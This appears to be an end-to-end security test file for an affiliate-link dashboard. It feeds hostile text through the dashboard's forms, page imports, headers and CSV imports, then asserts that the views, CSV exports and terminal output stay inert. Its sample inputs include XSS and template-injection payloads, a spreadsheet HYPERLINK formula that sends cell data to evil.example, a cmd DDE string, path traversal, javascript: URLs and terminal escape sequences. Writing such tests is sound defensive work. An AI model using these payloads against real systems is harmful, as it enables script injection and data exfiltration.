// What others write (titles of pages, referrers, user agents, names in reports, what somebody types into a form) is text
// wherever it shows: in every view of the dashboard, in CSV, in a terminal.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { axeViolations, findViews, launchBrowser, openPage, ownViolations, settled, signIn, visit } from "./dashboard.mjs";
import { eventually, json, output, parseCsv, phone, request, run, serve, writeConfig } from "./support.mjs";

const kTexts = {
  html: '<img src=x onerror="globalThis.taken=1"><script>globalThis.taken=2</script>',
  attribute: `" onmouseover="globalThis.taken=3" autofocus onfocus='globalThis.taken=4' x="`,
  template: "{{constructor.constructor('globalThis.taken=5')()}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open me")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  direction: "\u202egnp.egami\u202c \u2066\u05d0\u05d1\u05d2\u2069 \u0627\u0644\u0639\u0631\u0628\u064a\u0629",
  control: "bell\u0007 escape\u001b[31mred\u001b]0;title\u0007 back\u0008 nul\u0000 delete\u007f csi\u009b31m",
  long: "wide\u00e9".repeat(2000),
};
const kRun = Object.entries(kTexts);
const kNarrow = { width: 390, height: 844 };

let browser;
let folder;
let config;
let site;
let page;
const troubles = [];
const refused = new Map();
let trying = false; // what may be refused


async function api(method, path, body) {
  trying = true;
  const answer = await send(method, path, body);
  trying = false;
  return answer;
}
const send = (method, path, body) => page.evaluate(async ([how, where, what]) => {
  const { csrf } = await (await fetch("/api/v1/session")).json();
  const raw = typeof what === "string";
  const answer = await fetch(`/api/v1${where}`, { method: how, headers: { "X-Candor": csrf, "Content-Type": raw ? "application/octet-stream" : "application/json" }, body: raw ? what : JSON.stringify(what) });
  return { status: answer.status, body: await answer.json().catch(() => null) };
}, [method, path, body]);

const escaped = (text) => text.replace(/[&<>"]/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;" })[c]);
/// As its bytes: a header's text is bytes to whoever sends it.
const header = (text) => Buffer.from(text.replace(/[\u0000-\u001f\u007f]/g, ""), "utf8").toString("latin1").slice(0, 3000);

before(async () => {
  folder = mkdtempSync(join(tmpdir(), "candor-e2e-"));
  config = writeConfig(folder);
  site = await serve(config);
  browser = await launchBrowser();
  page = await openPage(browser, { troubles, allow: () => trying });
  page.on("dialog", (dialog) => {
    troubles.push(`a dialog opened: ${dialog.message()}`);
    dialog.dismiss();
  });
  await signIn(page, config);
});
after(async () => {
  await browser?.close();
  await site?.stop();
  rmSync(folder, { recursive: true, force: true });
});

test("links take such texts as they are, or say which field they refuse", async () => {
  for (const [name, text] of kRun) {
    const link = { slug: `h-${name}`, destination: `https://shop.example/${name}`, title: text, merchant: text };
    const made = await api("POST", "/links", link);
    if (made.status === 422) {
      assert.match(made.body.field, /^(title|merchant)$/, JSON.stringify(made.body));
      refused.set(name, made.body.detail);
      const plain = await api("POST", "/links", { ...link, title: name, merchant: name });
      assert.equal(plain.status, 201, JSON.stringify(plain.body));
      continue;
    }
    assert.equal(made.status, 201, JSON.stringify(made.body));
    assert.equal((await api("GET", `/links/h-${name}`)).body.title, text, "not a letter is changed");
  }
  assert(!refused.has("html") && !refused.has("formula") && !refused.has("direction"), "people may write what they like");
  for (const slug of ["<script>", "../../etc/passwd", "a b", "%00", "=1+1", "a".repeat(10000), "\u202eabc"]) {
    const answer = await api("POST", "/links", { slug, destination: "https://shop.example/" });
    assert.equal(answer.status, 422, slug.slice(0, 20));
    assert.equal(answer.body.field, "slug");
  }
  for (const destination of ["javascript:alert(1)", "data:text/html,<script>1</script>", "vbscript:x", "https://a b/"]) {
    const answer = await api("POST", "/links", { slug: "bad", destination });
    assert.equal(answer.status, 422, destination);
    assert.equal(answer.body.field, "destination");
  }
});

test("pages, clicks, reports and names bring them in, too", async () => {
  const pages = join(folder, "public");
  kRun.forEach(([name, text], n) => {
    mkdirSync(join(pages, `p${n}`), { recursive: true });
    const title = escaped(text.replaceAll("\u0000", ""));
    writeFileSync(join(pages, `p${n}`, "index.html"), `<!doctype html><html lang="en"><title>${title}</title><main><h1>${title}</h1><p>${title}</p><p><a href="https://shop.example/${name}">${title}</a> <a href="https://www.awin1.com/cread.php?awinmid=1&awinaffid=2&clickref=${encodeURIComponent(text.slice(0, 200))}">buy</a></p></main></html>`);
  });
  const audited = run(["audit", pages, "--config", config]);
  assert([0, 3].includes(audited.status), audited.stderr);
  run(["inject", pages, "--config", config]);
  await eventually(() => json(["report", "articles", "--config", config]).data.length >= kRun.length, 10000, "the articles");

  for (const [name, text] of kRun) {
    const answer = await request(`${site.redirect_url}/go/h-${name}?a=${encodeURIComponent(`/p${kRun.findIndex(([each]) => each === name)}/`)}`, { headers: { "User-Agent": header(`${phone} ${text}`), Referer: header(`https://site.example/${text}`) } });
    assert([302, 400, 431].includes(answer.status), `${name}: ${answer.status}`);
    await request(`${site.redirect_url}/go/${encodeURIComponent(text.slice(0, 500))}`, { headers: { "User-Agent": phone } });
  }
  const names = readFileSync(new URL("../fixtures/networks/awin_transactions.csv", import.meta.url), "utf8").split("\n")[0].trim().split(",");
  const line = (values) => names.map((name) => `"${(values[name] ?? "").replaceAll('"', '""')}"`).join(",");
  const today = new Date().toISOString().slice(0, 10);
  const rows = kRun.map(([, text], n) => line({ id: `90${n}`, advertiser_id: "1", advertiser_name: text, sale_amount: "10.00", commission: "1.00", date: `${today} 00:00:00`, commission_status: "approved", click_ref: text, url: text, site_name: text }));
  const bad = line({ id: kTexts.html, sale_amount: kTexts.formula, commission: kTexts.formula, date: kTexts.html, commission_status: kTexts.template });
  const report = await api("POST", `/revenue/imports?network=awin&currency=GBP&file_name=${encodeURIComponent(`${kTexts.html}.csv`)}`, `${[names.join(","), ...rows, bad].join("\r\n")}\r\n`);
  assert(report.status < 300, JSON.stringify(report.body));
  await eventually(() => json(["click", "list", "--gross", "--config", config]).data.length >= kRun.length - 1, 10000, "the clicks");

  for (const text of [kTexts.html, kTexts.formula, kTexts.direction]) {
    await api("POST", "/tokens", { name: text, scope: "read" });
    await api("POST", "/shares", { name: text });
    await api("POST", "/account/invite", { name: text, role: "viewer" });
    await api("POST", "/annotations", { text, title: text, day: "2026-01-02", from: "2026-01-02" }).catch(() => null);
  }
});

test("no view takes them for anything but text, nor is pushed off a phone's screen", async () => {
  const found = [];
  const { views } = await findViews(page, site);
  await page.setViewportSize(kNarrow);
  for (const [path, address] of views) {
    await visit(page, site, address);
    const state = await page.evaluate(() => ({
      taken: globalThis.taken,
      elements: document.querySelectorAll("#app :is(img:not(.qr > img), script, iframe, object, embed, [onerror], [onmouseover], [onfocus])").length,
      links: [...document.querySelectorAll("#app a[href]")].map((each) => each.protocol).filter((each) => !/^(https?|otpauth|mailto|blob):$/.test(each)),
    }));
    if (state.taken !== undefined) found.push(`${path}: code ran`);
    if (state.elements > 0) found.push(`${path}: ${state.elements} elements that nobody made`);
    for (const each of state.links) found.push(`${path}: a link to ${each}`);
    for (const each of [...(await ownViolations(page)), ...(await axeViolations(page))]) found.push(`${path}: ${each.slice(0, 300)}`);
  }
  assert.deepEqual(found, []);
});

test("what was written is what is read", async () => {
  await page.setViewportSize({ width: 1280, height: 900 });
  await visit(page, site, "#/links");
  const text = await page.locator("#app").innerText();
  for (const name of ["html", "template", "formula", "command"]) if (!refused.has(name)) assert(text.includes(kTexts[name]), name);
  await visit(page, site, `#/articles?q=${encodeURIComponent("<img")}`);
  assert((await page.locator("#app").innerText()).includes(kTexts.html));
  assert.equal(await page.evaluate(() => globalThis.taken), undefined);
});

test("an address of the dashboard that somebody else made does nothing either", async () => {
  for (const text of Object.values(kTexts)) {
    const value = encodeURIComponent(text.slice(0, 400));
    for (const address of [`#/articles?q=${value}`, `#/articles/detail?path=${value}`, `#/reports?merchant=${value}&by=${value}&q=${value}&from=${value}`, `#/clicks?link=${value}&why=${value}`, `#/${value}`]) {
      const quiet = troubles.length;
      await page.goto(`${site.admin_url}/${address}`);
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
      await settled(page);
      // Asking for what is not there is answered so.
      for (const each of troubles.splice(quiet)) if (!/: 4(04|22|00) for GET /.test(each)) troubles.push(each);
      assert.equal(await page.evaluate(() => globalThis.taken), undefined, address);
    }
  }
});

test("no CSV has a formula, and none loses a field", () => {
  const number = /^[+-]?\d+(\.\d+)?$/;
  for (const args of [["report", "articles"], ["report", "by", "merchant"], ["report", "by", "article"], ["report", "by", "link"], ["click", "list", "--gross", "--limit", "100"], ["link", "list"]]) {
    const text = output([...args, "--format", "csv", "--config", config]);
    assert(!text.includes("\u0000"), args.join(" "));
    const rows = parseCsv(text);
    const names = Object.keys(rows[0] ?? {});
    assert(rows.length > 0 && names.length > 1, `${args.join(" ")}: ${text.slice(0, 300)}`);
    for (const row of rows)
      for (const [name, field] of Object.entries(row)) {
        assert.notEqual(name, "undefined", `${args.join(" ")}: a field too many`);
        assert(!/^ *[=+\-@\t\r]/.test(field) || number.test(field), `${args.join(" ")}: ${name} is the formula ${field.slice(0, 60)}`);
      }
  }
});

test("a terminal gets no escape, no bell, no turned text", () => {
  for (const args of [["report", "articles"], ["report", "by", "merchant"], ["report", "by", "article"], ["click", "list", "--gross"], ["link", "list"], ["audit", join(folder, "public")]]) {
    const { stdout, stderr } = run([...args, "--config", config]);
    for (const text of [stdout, stderr]) {
      const bad = text.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      assert.equal(bad, null, `candor ${args.join(" ")}: U+${bad?.[0].charCodeAt(0).toString(16)} in ${JSON.stringify(text.slice(Math.max(0, (bad?.index ?? 0) - 60), (bad?.index ?? 0) + 20))}`);
    }
  }
});

test("none of it broke the policy, opened a dialog or wrote an error", () => assert.deepEqual([...new Set(troubles)], []));
